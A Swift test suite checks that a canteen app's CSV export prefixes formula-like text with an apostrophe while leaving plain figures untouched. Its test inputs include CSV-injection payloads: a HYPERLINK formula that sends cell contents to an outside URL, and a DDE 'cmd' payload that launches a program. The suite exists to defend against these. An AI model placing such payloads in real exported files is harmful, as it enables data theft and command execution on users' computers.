import CanteenDomain
import Testing

/// SPEC §2.9: text that a spreadsheet would run as a formula is written with a leading `'`;
/// figures stay figures.
@Suite("CSV formula guard")
struct CSVFormulaTests {
    @Test(arguments: [
        "=HYPERLINK(\"http://x/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tTAB", "\rCR", "=1",
    ])
    func textThatStartsAFormulaIsPrefixed(_ name: String) throws {
        let line = CSV.line([.text(name), .number("-4.00")])
        let fields = try #require(CSV.records(line).first).fields
        #expect(fields[0] == "'" + name)
        #expect(fields[1] == "-4.00")
    }

    @Test(arguments: ["王某某", "A=1", "1+1", "", "'quoted", " =padded"])
    func otherTextIsWrittenAsItIs(_ text: String) throws {
        #expect(try #require(CSV.records(CSV.line([.text(text), "x"])).first).fields[0] == text)
    }

    @Test(arguments: ["0", "12", "-4.00", "1234.56"])
    func figuresStayPlainNumbers(_ figure: String) {
        #expect(CSV.line([.number(figure)]) == figure + "\r\n")
    }

    @Test(arguments: ["=1", "-", "1.2.3", "-.5", "4e3", "+1", ""])
    func aNumberCellThatIsNoPlainFigureIsGuardedText(_ text: String) throws {
        let written = try #require(CSV.records(CSV.line([.number(text), "x"])).first).fields[0]
        #expect(written == CSV.formulaSafe(text))
        #expect(!["=", "+", "-", "@"].contains(written.first.map(String.init) ?? ""))
    }
}
